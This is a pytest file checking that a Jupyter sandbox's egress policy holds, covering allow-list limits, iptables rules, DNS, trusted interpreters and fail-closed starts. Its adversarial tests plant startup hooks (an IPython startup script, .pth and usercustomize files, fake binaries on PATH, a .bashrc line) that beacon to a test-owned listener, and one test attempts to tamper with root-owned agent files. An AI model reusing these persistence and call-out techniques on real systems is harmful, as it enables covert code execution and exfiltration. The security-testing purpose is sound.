"""The egress policy holds from the sandbox's first instruction, and a tightened policy cuts live flows.

Adversarial: code the sandbox planted in its own writable files (IPython start-up, a `.pth` and
usercustomize in ~/.local, a fake `python3`, `git` and `tar` first on PATH, ~/.bashrc) tries to reach
a listener the test owns, in a network namespace the test made; a long-lived connection is open
when the policy tightens. Targets are only that namespace and the sandbox itself.
"""

from __future__ import annotations

import io
import json
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT, start_jupyter_server, start_sandbox_kernel, wait_until

from jupyter_sandbox.sandbox import binding, interpreter, network
from jupyter_sandbox.sandbox.agent_client import run_blocking
from jupyter_sandbox.sandbox.docker_backend import SandboxError
from jupyter_sandbox.sandbox.manager import Sandbox, SandboxManager
from jupyter_sandbox.sandbox.records import PathStat

NETNS, HOST_LINK, NS_LINK, PREFIX = "jsbx-e1", "jsbx-eh1", "jsbx-en1", "10.231.7"
TARGET, PORT = f"{PREFIX}.2", 9100
ALLOW_TARGET = {"mode": "allow", "cidrs": [f"{PREFIX}.0/24"]}


def ip(*args: str) -> None:
    subprocess.run(["ip", *args], check=True, capture_output=True, timeout=20)


class Listener:
    """What the listener in the test's namespace recorded."""

    def __init__(self, log: Path) -> None:
        self.log = log

    def entries(self) -> list[dict[str, Any]]:
        try:
            return [json.loads(line) for line in self.log.read_text().splitlines() if line.strip()]
        except FileNotFoundError:
            return []

    def texts(self) -> list[str]:
        return [e["first"] for e in self.entries() if e["event"] == "close" or e["event"] == "data"]

    def connections(self) -> int:
        return sum(1 for e in self.entries() if e["event"] == "open")

    def dns_queries(self) -> int:
        return sum(1 for e in self.entries() if e["event"] == "dns")

    def received(self, conn: int) -> int:
        return max([e["bytes"] for e in self.entries() if e["conn"] == conn] or [0])


@pytest.fixture(scope="module")
def listener(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Listener]:
    """A TCP and DNS listener at 10.231.7.2 in a namespace of the test's, routed through the host."""
    log = tmp_path_factory.mktemp("egress") / "listener.log"
    subprocess.run(["ip", "netns", "del", NETNS], capture_output=True, check=False, timeout=20)
    subprocess.run(["ip", "link", "del", HOST_LINK], capture_output=True, check=False, timeout=20)
    process = None
    try:
        ip("netns", "add", NETNS)
        ip("link", "add", HOST_LINK, "type", "veth", "peer", "name", NS_LINK)
        ip("link", "set", NS_LINK, "netns", NETNS)
        ip("addr", "add", f"{PREFIX}.1/24", "dev", HOST_LINK)
        ip("link", "set", HOST_LINK, "up")
        for args in (
            ["addr", "add", f"{TARGET}/24", "dev", NS_LINK],
            ["link", "set", NS_LINK, "up"],
            ["link", "set", "lo", "up"],
            ["route", "add", "default", "via", f"{PREFIX}.1"],
        ):
            ip("netns", "exec", NETNS, "ip", *args)
        process = subprocess.Popen(
            [
                "ip",
                "netns",
                "exec",
                NETNS,
                sys.executable,
                str(ROOT / "tests" / "egress_listener.py"),
                TARGET,
                str(PORT),
                str(log),
                "900",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )

        def up() -> bool:
            try:
                socket.create_connection((TARGET, PORT), timeout=1).close()
                return True
            except OSError:
                return False

        assert wait_until(up, timeout=20), "the listener did not start"
        yield Listener(log)
    finally:
        if process is not None:
            process.kill()
            process.wait()
        subprocess.run(["ip", "link", "del", HOST_LINK], capture_output=True, check=False, timeout=20)
        subprocess.run(["ip", "netns", "del", NETNS], capture_output=True, check=False, timeout=20)


def run(manager: SandboxManager, sandbox: Sandbox, command: list[str] | str, timeout: float = 20) -> dict[str, Any]:
    agent = manager.agent(manager.get(sandbox.id))
    return run_blocking(lambda: agent.processes.exec(command, None, {}, timeout))


def restart(manager: SandboxManager, sandbox: Sandbox) -> Sandbox:
    started = manager.start(manager.stop(sandbox))
    manager.wait_for_agent(started)
    return started


# -- allow lists: judged by the space they cover ---------------------------------------------------


@pytest.mark.parametrize(
    "cidrs, message",
    [
        (["0.0.0.0/1", "128.0.0.0/1"], "covers 100.0000% of the IPv4"),
        (["::/1", "8000::/1"], "covers 100.0000% of the IPv6"),
        ([f"{i}.0.0.0/8" for i in range(1, 11)], "covers 3.9062% of the IPv4"),
        (["10.0.0.0/7"], "more than one /8 block"),
        (["2000::/3"], "IPv6 address space"),
        (["127.0.0.0/8"], "own loopback"),
        (["127.0.0.1/32"], "own loopback"),
        (["::1/128"], "own loopback"),
        (["169.254.169.254/32"], "link-local/metadata"),
        (["169.254.0.0/16"], "link-local/metadata"),
        (["fe80::1/128"], "link-local/metadata"),
        (["224.0.0.1/32"], "multicast"),
    ],
)
def test_allow_lists_are_judged_by_the_space_they_cover(cidrs: list[str], message: str) -> None:
    limits = network.Limits(max_cidrs=300)
    with pytest.raises(network.PolicyError, match=message.replace("(", r"\(").replace(".", r"\.")):
        network.parse_policy({"mode": "allow", "cidrs": cidrs}, limits)


def test_256_slash_8s_are_everything_too() -> None:
    with pytest.raises(network.PolicyError, match=r"covers 100\.0000% of the IPv4 address space"):
        network.parse_policy(
            {"mode": "allow", "cidrs": [f"{i}.0.0.0/8" for i in range(256)]}, network.Limits(max_cidrs=300)
        )


def test_narrow_private_blocks_and_overlaps_stay_possible() -> None:
    limits = network.Limits()
    policy = network.parse_policy(
        {"mode": "allow", "cidrs": [f"{PREFIX}.2/32", "10.0.0.0/8", "10.1.0.0/16", "2001:db8::/48"]}, limits
    )
    assert policy.cidrs == [f"{PREFIX}.2/32", "10.0.0.0/8", "10.1.0.0/16", "2001:db8::/48"]
    # A block that only overlaps link-local keeps it as a hole, and says nothing of it as allowed.
    rules = network.restore_input(
        network._rules(network.parse_policy({"mode": "allow", "cidrs": ["169.0.0.0/8"]}, limits), 4)
    )
    assert rules.index("-d 169.254.0.0/16 -j") < rules.index("-d 169.0.0.0/8 -j ACCEPT")


def test_the_operator_decides_how_much_an_allow_list_may_cover(manager: SandboxManager) -> None:
    everything = {"mode": "allow", "cidrs": ["0.0.0.0/1", "128.0.0.0/1"]}
    with pytest.raises(network.PolicyError, match="more than one /8 block"):
        manager.network_policy(everything)
    assert (
        SandboxManager(backend=manager.backend, allow_any_cidr=True).network_policy(everything).cidrs
        == everything["cidrs"]
    )
    wider = SandboxManager(backend=manager.backend, max_egress_allow_v4_prefix=6)
    assert wider.network_policy({"mode": "allow", "cidrs": ["8.0.0.0/7", "10.0.0.0/8"]})
    with pytest.raises(network.PolicyError, match="more than one /16 block"):
        SandboxManager(backend=manager.backend, max_egress_allow_v4_prefix=16).network_policy(
            {"mode": "allow", "cidrs": ["10.0.0.0/16", "10.2.0.0/24"]}
        )


def test_rules_judge_every_packet_the_sandbox_starts() -> None:
    for mode in ("internet", "allow", "none"):
        policy = network.EgressPolicy(mode, [f"{PREFIX}.0/24"] if mode == "allow" else [])
        for version in (4, 6):
            text = network.restore_input(network._rules(policy, version, ["172.30.0.1", "fd00::1"]))
            states = [line for line in text.splitlines() if "ctstate" in line]
            # State passes only the replies of connections made from outside.
            assert states == [f"-A {network.CHAIN} -m conntrack --ctstate ESTABLISHED,RELATED --ctdir REPLY -j ACCEPT"]
            assert ":OUTPUT DROP" in text and f"-A {network.REFUSE} -p tcp -j REJECT --reject-with tcp-reset" in text
            host = "172.30.0.1" if version == 4 else "fd00::1"
            assert f"-d {host} -j {network.REFUSE}" in text
            dns_refused = f"-d {network.EMBEDDED_DNS} -j {network.REFUSE}" in text
            assert dns_refused == (version == 4 and mode != "internet"), (mode, version)
            # The resolver's own upstream queries (root's sockets, port 53) pass only where DNS does.
            upstream = "-p udp --dport 53 -m owner --uid-owner 0 -j ACCEPT" in text
            assert upstream == (version == 4 and mode == "internet"), (mode, version)
    allowed_dns = network._rules(network.EgressPolicy("allow", ["203.0.113.0/24"]), 4, dns_in_allow_mode=True)
    assert ["-d", network.EMBEDDED_DNS, "-j", network.REFUSE] not in allowed_dns


# -- the agent's interpreter ------------------------------------------------------------------------


def fake_image(**overrides: dict[str, Any] | None) -> interpreter.Stat:
    def entry(kind: str, uid: int = 0, mode: int = 0o755, link: str = "") -> dict[str, Any]:
        return {"uid": uid, "gid": uid, "mode": mode, "type": kind, "link": link}

    tree: dict[str, dict[str, Any] | None] = {
        "/": entry("dir"),
        "/opt": entry("dir"),
        "/opt/sandbox-python": entry("dir"),
        "/opt/sandbox-python/bin": entry("dir"),
        "/opt/sandbox-python/pyvenv.cfg": entry("file", mode=0o644),
        "/opt/sandbox-python/bin/python3": entry("symlink", mode=0o777, link="/usr/bin/python3"),
        "/opt/sandbox-python/lib": entry("dir"),
        "/opt/sandbox-python/lib/python3.11": entry("dir"),
        "/opt/sandbox-python/lib/python3.11/site-packages": entry("dir"),
        "/usr": entry("dir"),
        "/usr/bin": entry("dir"),
        "/usr/bin/python3": entry("symlink", mode=0o777, link="python3.11"),
        "/usr/bin/python3.11": entry("file"),
        "/usr/lib": entry("dir"),
        "/usr/lib/python3.11": entry("dir"),
        "/usr/lib/python3/dist-packages": entry("dir"),
        "/usr/lib/python3": entry("dir"),
        "/bin": entry("dir"),
        "/usr/local": entry("dir"),
        "/usr/local/bin": entry("dir"),
    }
    for path, value in overrides.items():
        tree[path] = None if value is None else {**(tree.get(path) or entry("dir")), **value}
    return lambda path: None if tree.get(path) is None else PathStat(**tree[path])  # type: ignore[arg-type]


def test_the_agent_runs_from_an_interpreter_the_sandbox_cannot_change() -> None:
    good = interpreter.judge(fake_image(), interpreter.DEFAULT_CANDIDATES)
    assert good.python == "/opt/sandbox-python/bin/python3" and "/usr/bin" in good.path
    for change, why in [
        ({"/opt/sandbox-python/bin": {"uid": 1000}}, "belongs to uid 1000"),
        ({"/opt/sandbox-python": {"mode": 0o775}}, "writable by group or others"),
        ({"/opt/sandbox-python/lib/python3.11/site-packages": {"uid": 1000}}, "site-packages belongs to uid 1000"),
        ({"/opt/sandbox-python/pyvenv.cfg": {"mode": 0o666}}, "pyvenv.cfg is writable"),
        ({"/opt/sandbox-python/bin/python3": {"type": "file", "uid": 1000, "mode": 0o755}}, "belongs to uid 1000"),
    ]:
        verdict = interpreter.judge(fake_image(**change), interpreter.DEFAULT_CANDIDATES)
        # The venv is refused, with the reason; the system Python (root's) is used instead.
        assert why in verdict.refused["/opt/sandbox-python/bin/python3"], verdict.refused
        assert verdict.python == "/usr/bin/python3"
    none = interpreter.judge(fake_image(**{"/usr/bin": {"mode": 0o777}}), interpreter.DEFAULT_CANDIDATES)
    assert none.python is None and "/usr/bin" not in none.path
    assert "no Python interpreter that the sandbox user cannot change" in interpreter.explain(none, "some/image")
    assert interpreter.judge(fake_image(), ["python3"]).refused == {"python3": "not an absolute path"}
    # The folder the agent's files go into must be closed too.
    moved = interpreter.judge(fake_image(**{"/opt": {"mode": 0o777}}), ["/usr/bin/python3"], "/opt/jupyter-sandbox")
    assert moved.python is None and "/opt is writable" in moved.refused["/opt/jupyter-sandbox"]


def test_an_image_without_a_safe_interpreter_is_refused(manager: SandboxManager) -> None:
    strict = SandboxManager(backend=manager.backend, agent_python=["/home/sandbox/.local/bin/python3", "python3"])
    with pytest.raises(SandboxError, match="cannot be started safely"):
        strict.create(kernel_id="egress-no-interpreter")
    assert not manager.list(kernel_id="egress-no-interpreter")


# -- in a real sandbox ------------------------------------------------------------------------------

PLANT = r'''
import os, pathlib, site, stat, sys
home = pathlib.Path.home()
target, port = sys.argv[1], int(sys.argv[2])
reach = f"""
import os, socket
def _planted(name):
    try:
        cmd = open('/proc/self/cmdline', 'rb').read().replace(b'\\0', b' ').decode()
    except OSError:
        cmd = '?'
    with open(os.path.expanduser('~/planted.log'), 'a') as log:
        log.write(name + ' ran in: ' + cmd + '\\n')
    try:
        s = socket.create_connection(({target!r}, {port}), timeout=2)
        s.sendall(name.encode() + b' got out')
        s.close()
    except OSError:
        pass
"""
startup = home / ".ipython/profile_default/startup"
startup.mkdir(parents=True, exist_ok=True)
(startup / "00-planted.py").write_text(reach + "_planted('ipython-startup')\n")
user_site = pathlib.Path(site.getusersitepackages())
user_site.mkdir(parents=True, exist_ok=True)
(user_site / "planted_hook.py").write_text(reach + "_planted('pth')\n")
(user_site / "planted.pth").write_text("import planted_hook\n")
(user_site / "usercustomize.py").write_text(reach + "_planted('usercustomize')\n")
bin_dir = home / ".local/bin"
bin_dir.mkdir(parents=True, exist_ok=True)
for name, real in (("python3", sys.executable), ("git", "/usr/bin/git"), ("tar", "/bin/tar")):
    fake = bin_dir / name
    fake.write_text("#!/bin/sh\n"
                    f"{sys.executable} -I -c {reach + '_planted(' + repr('fake-' + name) + ')'!r}\n"
                    f'exec {real} "$@"\n')
    fake.chmod(0o755)
with open(home / ".bashrc", "a") as rc:
    rc.write(f"{sys.executable} -I -c {reach + '_planted(' + repr('bashrc') + ')'!r}\n")
print("planted")
'''


def plant(manager: SandboxManager, sandbox: Sandbox) -> None:
    run(manager, sandbox, ["/opt/sandbox-python/bin/python3", "-c", PLANT, TARGET, str(PORT)])
    # ~/.local/bin/python3 is the user's now: the sandbox's own commands find it first.
    assert "planted" in run(manager, sandbox, "python3 -c 'print(42)' && echo planted")["stdout"]


def planted_log(manager: SandboxManager, sandbox: Sandbox) -> str:
    result = run(manager, sandbox, ["/bin/cat", "/home/sandbox/planted.log"])
    return result["stdout"] if result["exit_code"] == 0 else ""


def test_planted_start_up_code_runs_only_once_the_policy_holds(
    manager: SandboxManager, sandbox: Sandbox, listener: Listener
) -> None:
    plant(manager, sandbox)
    # The control: with the listener allowed, the planted code does get there after a restart
    # (the kernel's start-up runs it), so silence later means the policy held, not a dud plant.
    manager.set_egress(sandbox, manager.network_policy(ALLOW_TARGET))
    sandbox = restart(manager, sandbox)
    assert wait_until(lambda: any("ipython-startup got out" in t for t in listener.texts()), timeout=30), (
        listener.entries()
    )
    assert any("pth got out" in t for t in listener.texts())

    manager.set_egress(sandbox, manager.network_policy("none"))
    run(manager, sandbox, ["/bin/rm", "-f", "/home/sandbox/planted.log"])
    before = listener.connections()
    for _ in range(2):
        sandbox = restart(manager, sandbox)
        # The kernel came up and ran its start-up files (they wrote their log) ...
        assert wait_until(lambda box=sandbox: "ipython-startup ran" in planted_log(manager, box), timeout=30)
        # ... and the agent's own calls ran none of the fakes first on the user's PATH.
        run(manager, sandbox, ["/usr/bin/git", "init", "-q", "/home/sandbox/repo"])
        agent = manager.agent(manager.get(sandbox.id))
        status = run_blocking(lambda agent=agent: agent.git.status("/home/sandbox/repo"))
        assert "branch" in json.dumps(status)
        archive = io.BytesIO()  # a folder comes as a tar the agent makes with its own tar
        copied = run_blocking(
            lambda agent=agent, archive=archive: agent.files.download_to("/home/sandbox/repo", archive, 10_000_000)
        )
        assert copied > 0
    time.sleep(2)  # anything still on its way would arrive now
    assert listener.connections() == before, listener.entries()[-5:]
    log = planted_log(manager, sandbox)
    assert "fake-git" not in log and "fake-tar" not in log, log
    # Nothing of the user's site ran inside the agent (whose command runs the agent package).
    assert not [line for line in log.splitlines() if "jupyter_sandbox_agent" in line], log
    assert "fake-python3" not in log, log


def test_a_tightened_policy_cuts_a_live_flow(manager: SandboxManager, sandbox: Sandbox, listener: Listener) -> None:
    manager.set_egress(sandbox, manager.network_policy(ALLOW_TARGET))
    sender = (
        f"import socket, time, sys\n"
        f"s = socket.create_connection(({TARGET!r}, {PORT}), timeout=5)\n"
        "s.sendall(b'live-flow ')\n"
        "sent = 0\n"
        "try:\n"
        "    for _ in range(600):\n"
        "        s.sendall(b'x' * 100); sent += 100\n"
        "        time.sleep(0.05)\n"
        "    print('still flowing after', sent, flush=True)\n"
        "except OSError as exc:\n"
        "    print('flow cut:', type(exc).__name__, 'after', sent, flush=True)\n"
    )
    before = listener.connections()

    outcome: dict[str, Any] = {}

    def send() -> None:
        outcome.update(run(manager, sandbox, ["/opt/sandbox-python/bin/python3", "-c", sender], timeout=60))

    thread = threading.Thread(target=send)
    thread.start()
    assert wait_until(lambda: listener.connections() > before, timeout=20)
    conn = max(e["conn"] for e in listener.entries())
    assert wait_until(lambda: listener.received(conn) > 500, timeout=20)  # it flows
    manager.set_egress(sandbox, manager.network_policy("none"))
    thread.join(timeout=90)
    # From inside: the program holding the connection sees it die.
    assert "flow cut:" in outcome.get("stdout", ""), outcome
    # At the listener: nothing more arrives once the policy is tightened.
    arrived = listener.received(conn)
    time.sleep(1.5)
    assert listener.received(conn) == arrived
    assert arrived < 600 * 100


def dns_query(server: str, port: int, name: str, tcp: bool = False) -> str:
    """Python run in the sandbox: one DNS query for `name`; prints 'answered' or 'no answer'."""
    return (
        "import socket, struct\n"
        f"q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0) + b''.join(bytes([len(p)]) + p.encode() for p in {name!r}.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)\n"
        "try:\n"
        + (
            f"    s = socket.create_connection(({server!r}, {port}), timeout=3); s.sendall(struct.pack('>H', len(q)) + q); answer = s.recv(512)\n"
            if tcp
            else f"    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ({server!r}, {port})); answer = s.recv(512)\n"
        )
        + "    print('answered' if answer else 'no answer')\n"
        "except OSError as exc:\n"
        "    print('no answer', type(exc).__name__)\n"
    )


def test_dns_per_mode(manager: SandboxManager, sandbox: Sandbox, listener: Listener) -> None:
    own_name = binding.base_name(sandbox.id)  # Docker's embedded resolver knows it

    def ask(server: str, port: int, tcp: bool = False) -> bool:
        out = run(manager, sandbox, ["/opt/sandbox-python/bin/python3", "-c", dns_query(server, port, own_name, tcp)])
        return out["stdout"].startswith("answered")

    assert ask(network.EMBEDDED_DNS, 53) and ask(network.EMBEDDED_DNS, 53, tcp=True)  # internet: DNS works
    assert not ask(TARGET, PORT)  # a private resolver is a private address
    manager.set_egress(sandbox, manager.network_policy(ALLOW_TARGET))
    asked = listener.dns_queries()
    assert not ask(network.EMBEDDED_DNS, 53) and not ask(network.EMBEDDED_DNS, 53, tcp=True)
    assert ask(TARGET, PORT) and listener.dns_queries() == asked + 1  # an allowed resolver is allowed traffic
    manager.set_egress(sandbox, manager.network_policy("none"))
    assert not ask(network.EMBEDDED_DNS, 53) and not ask(TARGET, PORT)
    assert listener.dns_queries() == asked + 1
    permissive = SandboxManager(backend=manager.backend, dns_in_allow_mode=True)
    permissive.set_egress(sandbox, permissive.network_policy(ALLOW_TARGET))
    assert ask(network.EMBEDDED_DNS, 53)


def test_the_host_reaches_the_sandbox_in_every_mode(manager: SandboxManager, sandbox: Sandbox) -> None:
    agent = manager.agent(sandbox)
    run_blocking(lambda: agent.sessions.create("inbound", None, None))
    server = "/opt/sandbox-python/bin/python3 -m http.server 8765 --bind 0.0.0.0"
    run_blocking(lambda: agent.sessions.run("inbound", server, True))
    address = manager.get(sandbox.id).ip_address

    def served() -> bool:
        try:
            with socket.create_connection((address, 8765), timeout=2) as conn:
                conn.sendall(b"GET / HTTP/1.0\r\n\r\n")
                return conn.recv(12).startswith(b"HTTP/1.0 200")
        except OSError:
            return False

    for mode in ("none", ALLOW_TARGET, "internet"):
        manager.set_egress(sandbox, manager.network_policy(mode))
        assert wait_until(served, timeout=20), mode
        assert run_blocking(lambda: agent.health())["status"] == "ok"


def test_the_agents_files_are_roots_and_put_at_every_start(manager: SandboxManager, sandbox: Sandbox) -> None:
    listing = run(
        manager,
        sandbox,
        [
            "/usr/bin/stat",
            "-c",
            "%U:%G %a %n",
            "/opt/jupyter-sandbox",
            "/opt/jupyter-sandbox/agent.json",
            "/opt/jupyter-sandbox/jupyter_sandbox_agent",
            "/opt/jupyter-sandbox/jupyter_sandbox_agent/__main__.py",
        ],
    )["stdout"].splitlines()
    assert listing == [
        "root:root 755 /opt/jupyter-sandbox",
        "root:sandbox 440 /opt/jupyter-sandbox/agent.json",
        "root:root 755 /opt/jupyter-sandbox/jupyter_sandbox_agent",
        "root:root 444 /opt/jupyter-sandbox/jupyter_sandbox_agent/__main__.py",
    ]
    tamper = run(
        manager,
        sandbox,
        "echo x >> /opt/jupyter-sandbox/agent.json; chmod 666 /opt/jupyter-sandbox/agent.json; "
        "touch /opt/jupyter-sandbox/jupyter_sandbox_agent/evil.py; echo done",
    )
    assert "Permission denied" in tamper["stderr"] and "Operation not permitted" in tamper["stderr"]
    # The sandbox's processes keep the image's PATH (the agent's own calls do not: see the test of
    # planted start-up code).
    assert run(manager, sandbox, "echo $PATH")["stdout"].startswith("/home/sandbox/.local/bin:")


def test_a_sandbox_from_before_the_gate_gets_a_gated_container(
    manager: SandboxManager, monkeypatch: pytest.MonkeyPatch
) -> None:
    from jupyter_sandbox.sandbox import manager as manager_module

    with monkeypatch.context() as patch:  # the command an older version gave its containers
        patch.setattr(manager_module, "agent_command", lambda python: ["python3", "-I", "-c", "pass"])
        old = manager.create(kernel_id="egress-before-the-gate", start=False)
    try:
        assert not manager._gated(old)
        started = manager.start(old)
        assert manager._gated(started) and manager.wait_for_agent(started)["status"] == "ok"
        assert (started.id, started.volume) == (old.id, old.volume) and started.container_id != old.container_id
    finally:
        manager.remove(old.id)


# -- fail closed --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "knob, value, message",
    [
        ("iptables_restore_command", "/bin/false", "iptables-restore failed|/bin/false failed"),
        ("iptables_restore_command", "/nonexistent/iptables-restore", "is not installed"),
        ("nsenter_command", "/nonexistent/nsenter", "is not installed"),
    ],
)
def test_a_policy_that_cannot_be_applied_keeps_the_sandbox_stopped(
    manager: SandboxManager, knob: str, value: str, message: str
) -> None:
    broken = SandboxManager(backend=manager.backend, **{knob: value})
    kernel_id = f"egress-closed-{knob.split('_')[0]}-{abs(hash(value)) % 1000}"
    with pytest.raises(SandboxError, match=f"could not be put in force: .*({message})"):
        broken.create(kernel_id=kernel_id)
    assert not manager.list(kernel_id=kernel_id)  # a new sandbox that cannot start is not kept

    kept = manager.create(kernel_id=kernel_id)
    try:
        manager.wait_for_agent(kept)
        stopped = manager.stop(kept)
        with pytest.raises(SandboxError, match="is not running unrestricted instead"):
            broken.start(stopped)
        assert not manager.get(kept.id).running
        # A live change that cannot be applied stops the sandbox rather than leave other rules in force.
        with pytest.raises(SandboxError, match="The sandbox was stopped"):
            broken.set_egress(manager.start(manager.get(kept.id)), broken.network_policy("none"))
        assert not manager.get(kept.id).running
    finally:
        manager.remove(kept)


def test_enforcement_off_is_the_operators_explicit_choice(manager: SandboxManager) -> None:
    off = SandboxManager(backend=manager.backend, enforce_egress=False, iptables_restore_command="/bin/false")
    box = off.create(kernel_id="egress-enforcement-off")
    try:
        assert off.wait_for_agent(box)["status"] == "ok"
    finally:
        off.remove(box)


def test_fail_closed_reaches_the_api_and_the_first_cell(sandbox_image: str, tmp_path: Path) -> None:
    server, process = start_jupyter_server(tmp_path, ["--SandboxManager.iptables_restore_command=/bin/false"])
    try:
        status, error = server.request("POST", "/sandbox/api/sandboxes", {"network": "none"})
        assert status >= 500 and "could not be put in force" in error["message"], error
        status, error = server.request(
            "POST", "/sandbox/api/sandboxes", {"network": {"mode": "allow", "cidrs": ["0.0.0.0/1", "128.0.0.0/1"]}}
        )
        assert status == 400 and "more than one /8 block" in error["message"]
    finally:
        process.terminate()
        process.wait(timeout=30)
    kernel = start_sandbox_kernel(
        extra_argv=["--SandboxManager.iptables_restore_command=/bin/false"], tmp_path=tmp_path
    )
    try:
        run_ = kernel.run("print('should not run')", timeout=120)
        text = run_.stdout + run_.stderr + json.dumps(run_.error or {})
        assert "should not run" not in run_.stdout
        assert "could not be put in force" in text, text
    finally:
        kernel.shutdown()
